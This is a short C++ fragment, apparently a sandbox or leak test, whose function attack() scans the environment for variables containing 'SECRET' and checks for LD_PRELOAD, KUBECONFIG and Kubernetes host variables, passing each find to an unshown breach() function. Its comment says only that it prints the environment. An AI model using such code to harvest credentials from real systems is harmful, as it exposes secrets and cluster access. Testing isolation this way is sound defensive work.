// Prints its environment.
extern char** environ;
void attack() {
  for (char** one = environ; *one != nullptr; ++one) {
    if (strstr(*one, "SECRET") != nullptr) breach(*one);
  }
  for (const char* name : {"LD_PRELOAD", "HOME", "USER", "KUBECONFIG", "KUBERNETES_SERVICE_HOST"}) {
    if (getenv(name) != nullptr) breach(name);
  }
}
